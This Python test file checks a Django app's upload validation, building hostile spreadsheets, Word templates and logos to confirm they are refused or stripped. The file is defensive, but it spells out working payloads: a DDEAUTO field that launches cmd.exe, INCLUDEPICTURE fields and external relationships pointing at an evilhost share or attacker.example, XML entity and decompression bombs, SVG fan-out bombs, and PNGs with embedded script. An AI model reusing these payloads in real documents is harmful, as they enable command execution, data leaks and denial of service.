"""Issue 22, items 1 and 2: uploads made to carry a payload into every report, or to
exhaust the server. Every attack file is built here with zipfile from a normal one;
each is refused with a message that says why (or, for a Word template, accepted with
what was left out named), and the normal files still work."""

import io
import logging
import re
import zipfile

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse
from django.utils import translation

from helpers.bounded import LimitExceeded, run_bounded
from helpers.uploads import FileProblem, read_spreadsheet
from reports.design_checks import check_logo, check_word_template
from reports.models import ReportDesign, ReportExport

from .test_report_design import SLUG, URL, png, report, svg, upload, word_file

MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
W = (
    b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rezip(content, replace=None, add=None, drop=()):
    """``content`` (a ZIP package) with members replaced, added or dropped."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            if member.filename in drop:
                continue
            data = source.read(member)
            change = (replace or {}).get(member.filename)
            if change is not None:
                data = change(data) if callable(change) else change
            target.writestr(member.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return buffer.getvalue()


def workbook(rows=(("Konzept", "Maßnahme"), ("ik-2009", "3.1"))):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refusal(content, file_format="xlsx", language="en"):
    with translation.override(language), pytest.raises(FileProblem) as problem:
        read_spreadsheet(content, file_format)
    return str(problem.value)


@pytest.fixture
def no_openpyxl(monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to open the file")

    monkeypatch.setattr("helpers.uploads.load_workbook", never)


@pytest.fixture
def small_memory(settings):
    """Checks must refuse a bomb within 150 MB more than the process has, or the
    child that reads it is stopped and the message says memory, not the reason."""
    settings.WORK_LIMITS = {"spreadsheet": {"megabytes": 150, "seconds": 30}}


# Spreadsheets -----------------------------------------------------------------------


def styles_with(count, xf=b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'):
    xfs = xf * count
    return lambda data: re.sub(rb"<cellXfs[^>]*>", b"<cellXfs>" + xfs, data, count=1)


def test_an_xlsx_whose_styles_unpack_to_45_mb_is_refused_before_unpacking(
    no_openpyxl, small_memory
):
    # The probe's file: 45 MB of <xf/> packed into some 133 KB.
    content = rezip(workbook(), replace={"xl/styles.xml": styles_with(700_000)})
    assert len(content) < 300_000
    message = refusal(content)
    assert "“xl/styles.xml”" in message and "200 times its packed size" in message
    assert "mal so groß" in refusal(content, language="de")


def test_an_xlsx_with_too_many_style_elements_is_refused_by_their_count(no_openpyxl, small_memory):
    # Under 1 MB unpacked, so not refused by its packing: by its 60,000 elements.
    content = rezip(workbook(), replace={"xl/styles.xml": styles_with(60_000, b"<xf/>")})
    message = refusal(content)
    assert "“xl/styles.xml”" in message and "more than 50,000 XML elements" in message
    assert "mehr als 50.000 XML-Elemente" in refusal(content, language="de")


def strings_with(count):
    strings = b"<si><t>x</t></si>" * count
    return f"<sst {MAIN.decode()}>".encode() + strings + b"</sst>"


def with_shared_strings(content, data):
    """openpyxl writes strings inline; Excel writes them to a shared table."""
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    return rezip(
        content,
        replace={"[Content_Types].xml": lambda data: data.replace(b"</Types>", override)},
        add={"xl/sharedStrings.xml": data},
    )


def test_a_shared_strings_bomb_is_refused_before_unpacking(no_openpyxl, small_memory):
    content = with_shared_strings(workbook(), strings_with(2_500_000))
    assert len(content) < 300_000
    assert "“xl/sharedStrings.xml”" in refusal(content)


def test_more_shared_strings_than_cells_are_refused(no_openpyxl, small_memory):
    content = with_shared_strings(workbook(), strings_with(20_000))
    message = refusal(content)
    assert "table of texts" in message and "more entries than its sheets have cells" in message


def test_a_sheet_under_an_unusual_path_is_counted_too(no_openpyxl, small_memory, settings):
    """The workbook and its sheet where no one looks for them: found as openpyxl
    finds them, through the content types and the workbook's relationships."""
    settings.SPREADSHEET_LIMITS = {"packing_ratio": 10_000}
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 25_002))
    sheet = b"<worksheet " + MAIN + b"><sheetData>" + rows + b"</sheetData></worksheet>"
    original = members(workbook())
    relations = original["xl/_rels/workbook.xml.rels"].replace(
        b"/xl/worksheets/sheet1.xml", b"/data/rows.bin"
    )
    content = rezip(
        workbook(),
        replace={
            "[Content_Types].xml": lambda data: data.replace(
                b'PartName="/xl/workbook.xml"', b'PartName="/data/book.xml"'
            ).replace(b'PartName="/xl/worksheets/sheet1.xml"', b'PartName="/data/rows.bin"'),
        },
        add={
            "data/book.xml": original["xl/workbook.xml"],
            "data/_rels/book.xml.rels": relations,
            "data/rows.bin": sheet,
        },
        drop=("xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"),
    )
    assert b"/data/rows.bin" in relations
    message = refusal(content)
    assert "more than 20,000 rows" in message, message


@pytest.mark.parametrize("chunk", [7, 64, 65, 1000])
def test_elements_are_counted_exactly_across_the_chunks_they_are_unpacked_in(monkeypatch, chunk):
    from lxml import etree

    from helpers import uploads

    monkeypatch.setattr(uploads, "CHUNK", chunk)
    part = (
        b'<?xml version="1.0"?><sheetData xmlns:x="urn:x">'
        + b"<row r='1'><c><v>1</v></c><x:c/></row><x:row/><rows/><cc>a&lt;b</cc>"
        + b"<![CDATA[ x ]]><?pi x?><row/>" * 40
        + b"</sheetData>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("part.xml", part)
    with zipfile.ZipFile(buffer) as archive:
        counts = uploads.count_tags(
            archive,
            archive.getinfo("part.xml"),
            dict.fromkeys(("elements", "rows", "cells"), 10**6),
            {"rows": uploads.ROW_TAG, "cells": uploads.CELL_TAG},
        )
    elements = [e for e in etree.fromstring(part).iter() if isinstance(e.tag, str)]
    names = [etree.QName(e).localname for e in elements]
    assert counts == {
        "elements": len(elements),
        "rows": names.count("row"),
        "cells": names.count("c"),
    }


def test_a_document_type_declaration_in_a_part_is_refused(no_openpyxl):
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
    )
    content = rezip(workbook(), replace={"docProps/app.xml": bomb})
    assert "document type declaration" in refusal(content)


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="UTF-16"?><styleSheet/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="UTF-7"?>+ADw-styleSheet/+AD4-',
    ],
)
def test_a_part_in_an_encoding_that_hides_its_tags_is_refused(no_openpyxl, data):
    content = rezip(workbook(), replace={"xl/styles.xml": data})
    assert "unusual encoding" in refusal(content)


def test_the_dresden_measures_export_still_reads_back(dresden, small_memory):
    from measures.tables import EXPORTS, export_table

    exported = EXPORTS["massnahmen"].resource_class().export()
    dataset = read_spreadsheet(export_table(EXPORTS["massnahmen"], "xlsx"), "xlsx")
    assert dataset.headers == exported.headers and len(dataset) == len(exported) > 0


def test_a_spreadsheet_that_takes_too_long_is_stopped_with_a_message(settings, monkeypatch):
    settings.WORK_LIMITS = {"spreadsheet": {"seconds": 2}}

    def forever(content, file_format):
        while True:
            pass

    monkeypatch.setattr("helpers.uploads._read", forever)
    message = refusal(workbook(), language="de")
    assert "länger als 2 Sekunden" in message


# Word templates ---------------------------------------------------------------------


@pytest.fixture
def bureau(client, bureau_user, dresden):
    client.force_login(bureau_user)
    return client


def members(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def everything(content):
    return b"\n".join(members(content).values())


def add_relationship(rels, relationship_id, kind, target, external=False):
    mode = b' TargetMode="External"' if external else b""
    entry = b'<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
        relationship_id.encode(),
        (TYPE + kind).encode(),
        target.encode(),
        mode,
    )
    return rels.replace(b"</Relationships>", entry + b"</Relationships>")


def header_name(content):
    rels = members(content)["word/_rels/document.xml.rels"]
    return "word/" + re.search(rb'Target="(header\d*\.xml)"', rels).group(1).decode()


def test_a_template_linked_to_a_remote_template_is_stored_and_used_without_it(bureau):
    from reports.exports import render_docx

    remote = "https://attacker.example/template.dotm"
    content = word_file(as_template=False)
    content = rezip(
        content,
        replace={
            "word/settings.xml": lambda data: re.sub(
                rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', data, count=1
            ),
        },
        add={
            "word/_rels/settings.xml.rels": add_relationship(
                f'<Relationships xmlns="{RELS}"></Relationships>'.encode(),
                "rIdT",
                "attachedTemplate",
                remote,
                external=True,
            )
        },
    )
    response = upload(bureau, "template", "vorlage.docx", content)
    assert response.status_code == 302
    stored = bytes(ReportDesign.objects.get().word_template)
    for document in (stored, render_docx(report())):
        text = everything(document)
        assert b"attachedTemplate" not in text and b"External" not in text
        assert remote.encode() not in text
    page = bureau.get(URL, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Left out of it: the link to another template, which Word would load" in page
    assert remote in page


def hostile_header(content):
    """The probe's header: INCLUDEPICTURE of a share as a complex and as a simple
    field, a picture linked from that share, and a DDE field."""
    header = header_name(content)
    fields = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
        b'"\\\\\\\\evilhost\\\\share\\\\logo.png" \\d </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Bild</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\evilhost\\x.png&quot; \\d">'
        b"<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b"<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
        b' "/k calc" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        b'<v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r></w:p>'
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b"<w:r><w:instrText> PAGE </w:instrText></w:r>"
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rezip(
        content,
        replace={header: lambda data: data.replace(b"</w:hdr>", fields + b"</w:hdr>")},
        add={
            header.replace("word/", "word/_rels/") + ".rels": add_relationship(
                f'<Relationships xmlns="{RELS}"></Relationships>'.encode(),
                "rIdX",
                "image",
                "file://evilhost/share/logo.png",
                external=True,
            )
        },
    )


def test_a_header_that_loads_pictures_from_a_share_loses_them(bureau):
    from docx import Document

    from reports.exports import render_docx

    content = hostile_header(word_file(as_template=False))
    response = upload(bureau, "template", "vorlage.docx", content)
    assert response.status_code == 302
    stored = bytes(ReportDesign.objects.get().word_template)
    rendered = render_docx(report())
    for document in (stored, rendered):
        text = everything(document)
        for payload in (b"INCLUDEPICTURE", b"DDEAUTO", b"evilhost", b"External", b"imagedata"):
            assert payload not in text, payload
    header = Document(io.BytesIO(rendered)).sections[0].header
    assert header.paragraphs[0].text == "Landeshauptstadt – Kopfzeile der Vorlage"
    assert " PAGE " in header._element.xml, "the page number field stays"
    page = bureau.get(URL, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "fields that load or run something (INCLUDEPICTURE, DDEAUTO)" in page
    assert "file://evilhost/share/logo.png" in page
    with translation.override("de"):
        _content, removed = check_word_template(content, "vorlage.docx")
    assert "Felder, die etwas laden oder ausführen (INCLUDEPICTURE, DDEAUTO)" in removed


def test_a_field_hidden_in_another_fields_instruction_is_removed(bureau):
    """{ QUOTE "INCLUDEPICTURE" } inside a field's instruction names the outer field."""
    content = word_file(as_template=False)
    header = header_name(content)
    nested = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b"<w:r><w:instrText> QUOTE INCLUDEPICTURE </w:instrText></w:r>"
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        b'<w:r><w:instrText> PAGE "\\\\\\\\evilhost\\\\x.png" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    content = rezip(
        content, replace={header: lambda data: data.replace(b"</w:hdr>", nested + b"</w:hdr>")}
    )
    assert upload(bureau, "template", "vorlage.docx", content).status_code == 302
    text = everything(bytes(ReportDesign.objects.get().word_template))
    assert b"QUOTE" not in text and b"evilhost" not in text


@pytest.mark.parametrize(
    "name, content_type, relationship",
    [
        ("word/harmless.bin", "application/vnd.ms-office.vbaProject", "vbaProject"),
        ("word/styles2.xml", "application/xml", "vbaProject"),
        ("word/data.bin", "application/vnd.ms-word.vbaData+xml", None),
    ],
)
def test_a_template_with_macros_under_another_name_is_refused(
    bureau, name, content_type, relationship
):
    content = word_file(as_template=False)
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    replace = {"[Content_Types].xml": lambda data: data.replace(b"</Types>", override)}
    if relationship:
        replace["word/_rels/document.xml.rels"] = lambda data: add_relationship(
            data, "rIdM", "vbaProject", name.removeprefix("word/")
        ).replace(
            TYPE.encode() + b"vbaProject",
            b"http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        )
    content = rezip(content, replace=replace, add={name: b"\xd0\xcf\x11\xe0VBA"})
    response = upload(bureau, "template", "vorlage.docx", content)
    assert response.status_code == 400
    assert "Templates with macros (.docm, .dotm) are not accepted." in response.content.decode()
    assert not ReportDesign.objects.exists()


def test_activex_controls_and_embedded_objects_are_left_out_and_named(bureau):
    content = word_file(as_template=False)
    header = header_name(content)
    control = b'<w:p><w:r><w:object><w:control r:id="rIdC" w:name="x"/></w:object></w:r></w:p>'
    content = rezip(
        content,
        replace={
            header: lambda data: data.replace(b"</w:hdr>", control + b"</w:hdr>"),
            "[Content_Types].xml": lambda data: data.replace(
                b"</Types>",
                b'<Override PartName="/word/activeX/activeX1.xml" '
                b'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
            ),
        },
        add={
            "word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>",
            header.replace("word/", "word/_rels/") + ".rels": add_relationship(
                f'<Relationships xmlns="{RELS}"></Relationships>'.encode(),
                "rIdC",
                "control",
                "activeX/activeX1.xml",
            ),
        },
    )
    assert upload(bureau, "template", "vorlage.docx", content).status_code == 302
    stored = members(bytes(ReportDesign.objects.get().word_template))
    assert not any("activeX" in name for name in stored)
    assert b"w:control" not in b"".join(stored.values())
    page = bureau.get(URL, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "ActiveX controls and embedded objects" in page


def test_only_allowed_parts_are_kept(bureau):
    """The body's text, comments, custom XML, fonts and the glossary are not taken
    over: the stored template is its styles, numbering, theme, settings, page setup,
    headers and footers."""
    content = rezip(
        word_file(as_template=False),
        add={"customXml/item9.xml": b"<x/>", "word/glossary/document.xml": b"<x/>"},
    )
    assert upload(bureau, "template", "vorlage.docx", content).status_code == 302
    names = set(members(bytes(ReportDesign.objects.get().word_template)))
    allowed = re.compile(
        r"\[Content_Types\]\.xml|_rels/\.rels|word/(_rels/)?(document|styles|numbering|"
        r"settings|header\d+|footer\d+)\.xml(\.rels)?|word/theme/theme1\.xml|word/media/.*"
    )
    assert names and all(allowed.fullmatch(name) for name in names), names
    body = members(bytes(ReportDesign.objects.get().word_template))["word/document.xml"]
    assert b"Text der Vorlage" not in body and b"<w:sectPr" in body


def test_a_template_whose_styles_unpack_to_a_bomb_is_refused(bureau):
    # The probe's template: 191 KB packed, 1.4 GB in python-docx.
    style = b'<w:style w:type="paragraph" w:styleId="x"><w:name w:val="x"/></w:style>'
    content = rezip(
        word_file(as_template=False),
        replace={
            "word/styles.xml": lambda data: data.replace(
                b"</w:styles>", style * 400_000 + b"</w:styles>"
            )
        },
    )
    assert len(content) < 400_000
    response = upload(bureau, "template", "vorlage.docx", content)
    assert response.status_code == 400
    assert "“word/styles.xml”" in response.content.decode()
    assert not ReportDesign.objects.exists()

    # Below the packing ratio's floor (1 MB): refused by the number of its elements.
    content = rezip(
        word_file(as_template=False),
        replace={
            "word/styles.xml": lambda data: data.replace(
                b"</w:styles>", b"<w:x/>" * 160_000 + b"</w:styles>"
            )
        },
    )
    response = upload(bureau, "template", "vorlage.docx", content)
    assert response.status_code == 400
    assert "more than 150,000 XML elements" in response.content.decode()


def test_a_template_stored_before_these_rules_is_cleaned_when_the_docx_is_made(bureau):
    from reports.exports import render_docx

    content = hostile_header(word_file(as_template=False))
    design = ReportDesign.objects.create(
        municipality=report().concept.municipality,
        word_template=content,
        word_template_name="alt.docx",
        word_template_sha256="0" * 64,
    )
    assert design.pk
    text = everything(render_docx(report()))
    assert b"INCLUDEPICTURE" not in text and b"External" not in text


def test_the_default_and_a_normal_template_still_render(bureau):
    from docx import Document

    from reports.exports import render_docx

    assert Document(io.BytesIO(render_docx(report()))).paragraphs, "without a template"
    response = upload(bureau, "template", "stadt.dotx", word_file())
    assert response.status_code == 302
    page = bureau.get(URL, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Left out of it" not in page, "nothing to say about a normal template"
    document = Document(io.BytesIO(render_docx(report())))
    assert str(document.styles["Heading 1"].font.color.rgb) == "0B6E4F"


# Logos ------------------------------------------------------------------------------


def use_fan_out(levels=10):
    """The probe's logo: ten levels of <use>, each repeating the level below ten
    times (10^10 elements drawn), in 2 KB."""
    groups = ['<g id="l0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = "".join(f'<use href="#l{level - 1}"/>' for _ in range(10))
        groups.append(f'<g id="l{level}">{uses}</g>')
    return svg("<defs>" + "".join(groups[:-1]) + "</defs>" + groups[-1])


@pytest.mark.parametrize(
    "inner, attributes, message",
    [
        (None, "", "repeats its own parts too often"),
        ('<g id="g"><use href="#g"/></g>', "", "refers to itself in a circle"),
        ("<rect/>" * 10_001, "", "more than 10,000 elements"),
        (
            '<defs><pattern id="p"><rect width="1" height="1"/></pattern></defs>'
            + '<rect fill="url(#p)"/>' * 9_000,
            "",
            "repeats its own parts too often",
        ),
        (
            '<defs><g id="big">' + "<rect/>" * 2_000 + "</g></defs>" + '<use href="#big"/>' * 20,
            "",
            "repeats its own parts too often",
        ),
        (
            '<style>.a { fill: url(#p) }</style><defs><pattern id="p">'
            + "<rect/>" * 900
            + "</pattern></defs>"
            + '<rect class="a"/>' * 100,
            "",
            "repeats its own parts too often",
        ),
    ],
)
def test_an_svg_whose_references_fan_out_is_refused(bureau, inner, attributes, message):
    content = use_fan_out() if inner is None else svg(inner, attributes)
    assert len(use_fan_out()) < 2_500
    response = upload(bureau, "logo", "logo.svg", content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not ReportDesign.objects.exists()


@pytest.mark.parametrize(
    "inner",
    [
        "<style>@\\69mport url(https://x.example/a.css);</style>",
        '<rect style="fill:u\\72l(https://x.example/a.png)"/>',
        "<style>.a{fill:url(\\68ttps://x.example/a.png)}</style>",
        '<rect style="fill:url(ht/**/tps://x.example/a)"/>',
        "<style><!-- a comment -->@import url(https://x.example/a.css);</style>",
        "<style><![CDATA[ ]]><!-- --> .a { fill: url('https://x.example/a.png') }</style>",
        "<style>@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) }</style>",
        '<image href="data:image/png;base64,AAAA" width="1" height="1"/>',
    ],
)
def test_an_svg_with_outside_references_in_disguise_is_refused(bureau, inner):
    response = upload(bureau, "logo", "logo.svg", svg(inner))
    assert response.status_code == 400, inner
    assert not ReportDesign.objects.exists()


def test_an_embedded_picture_too_large_to_unpack_is_refused(bureau):
    import base64

    picture = base64.b64encode(png(6000, 1)).decode()
    inner = f'<image href="data:image/png;base64,{picture}" width="9" height="9"/>'
    response = upload(bureau, "logo", "logo.svg", svg(inner))
    assert response.status_code == 400
    assert "at most 5000 pixels" in response.content.decode()


def png_with_chunk(kind, data):
    import struct
    import zlib

    chunk = struct.pack(">I", len(data)) + kind + data
    chunk += struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    image = png()
    return image[:33] + chunk + image[33:]


@pytest.mark.parametrize(
    "content",
    [
        png_with_chunk(b"tEXt", b"Comment\0<html><script>alert(1)</script></html>"),
        png() + b"<!DOCTYPE html><html><body><script>alert(1)</script>",
    ],
    ids=["in a text chunk", "after the end"],
)
def test_a_png_that_is_also_a_web_page_is_refused(bureau, content):
    response = upload(bureau, "logo", "logo.png", content)
    assert response.status_code == 400
    assert "web page code (HTML)" in response.content.decode()
    assert not ReportDesign.objects.exists()


def test_a_logo_stored_before_these_rules_is_left_out_of_the_pdf(bureau, caplog, settings):
    """The probe's logo, stored before the check: the PDF is made without it, in
    seconds, instead of at 100 % processor time for ever."""
    from reports.exports import render_html, render_pdf

    settings.WORK_LIMITS = {"pdf": {"seconds": 60}}
    ReportDesign.objects.create(
        municipality=report().concept.municipality,
        logo=use_fan_out(),
        logo_type="image/svg+xml",
        logo_name="logo.svg",
    )
    with caplog.at_level(logging.WARNING):
        html = render_html(report())
    assert "data:image/svg+xml" not in html
    assert any("left out" in record.getMessage() for record in caplog.records)
    assert render_pdf(report(), html=html).startswith(b"%PDF")


def test_a_png_logo_stored_before_these_rules_is_left_out_of_the_docx(bureau):
    """A PNG that is also a web page, stored before the check: the DOCX is made
    without it, as the HTML and PDF are, not with the page inside its picture."""
    from reports.exports import render_docx

    ReportDesign.objects.create(
        municipality=report().concept.municipality,
        logo=png() + b"<!DOCTYPE html><html><body><script>alert(1)</script>",
        logo_type="image/png",
        logo_name="logo.png",
    )
    content = render_docx(report())
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        media = [name for name in package.namelist() if name.startswith("word/media/")]
        assert not any(b"<script>" in package.read(name) for name in media), media


def test_normal_logos_still_pass():
    check_logo(png(), "wappen.png")
    check_logo(
        svg(
            '<style>.a{fill:url(#g)}</style><defs><linearGradient id="g"><stop/></linearGradient>'
            '<g id="leaf"><path d="M0 0L5 5"/></g></defs>'
            + '<use href="#leaf"/>' * 50
            + '<rect class="a" width="9" height="9"/>'
        ),
        "wappen.svg",
    )


# Time and memory limits of the worker -----------------------------------------------


def test_a_render_that_never_ends_is_stopped_and_the_export_fails(
    client, bureau_user, dresden, settings, monkeypatch, caplog
):
    settings.WORK_LIMITS = {"pdf": {"seconds": 1}}

    def forever(html):
        while True:
            pass

    monkeypatch.setattr("reports.exports._typeset", forever)
    client.force_login(bureau_user)
    with caplog.at_level(logging.ERROR):
        client.post(reverse("reports:report_export", args=[SLUG, "pdf"]))
    export = ReportExport.objects.get()
    assert export.state == ReportExport.State.FAILED and not bytes(export.content)
    page = client.get(reverse("reports:report_export", args=[SLUG, "pdf"])).content.decode()
    assert "Das Dokument konnte nicht erstellt werden." in page


def test_a_render_that_needs_too_much_memory_is_stopped(settings):
    settings.WORK_LIMITS = {"docx": {"megabytes": 100}}
    with translation.override("en"), pytest.raises(LimitExceeded, match="more than 100 MB"):
        run_bounded("docx", lambda: len(bytearray(400 * 1024 * 1024)))


def test_the_bounded_child_cannot_use_the_database(db):
    from reports.models import Report

    with pytest.raises(RuntimeError, match="must not use the database"):
        run_bounded("pdf", lambda: Report.objects.count())
    assert Report.objects.count() == 0, "the parent's connection still works"


def test_documents_are_rendered_outside_any_transaction(
    dresden, bureau_user, settings, monkeypatch
):
    """No render holds a lock: the worker renders exports and versions outside any
    transaction of its own, so other exports and publications of the report never
    wait for it. (The test runs in a transaction: no savepoint may be open beyond
    those the test began with.)"""
    from reports import exports
    from reports.publishing import publish
    from reports.tasks import render_export, request_export

    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}
    renders = []
    bounded = exports.run_bounded

    def watched(kind, *args, **kwargs):
        renders.append((kind, len(connection.savepoint_ids)))
        return bounded(kind, *args, **kwargs)

    monkeypatch.setattr("reports.exports.run_bounded", watched)
    outside = len(connection.savepoint_ids)
    for format in ("pdf", "docx"):
        export = request_export(report(), format, bureau_user, "v")
        render_export.call(export.pk)
        assert ReportExport.objects.get(pk=export.pk).state == ReportExport.State.DONE
    publish(report(), bureau_user)
    # a published version has its PDF and its DOCX
    assert renders == [("pdf", outside), ("docx", outside), ("pdf", outside), ("docx", outside)]
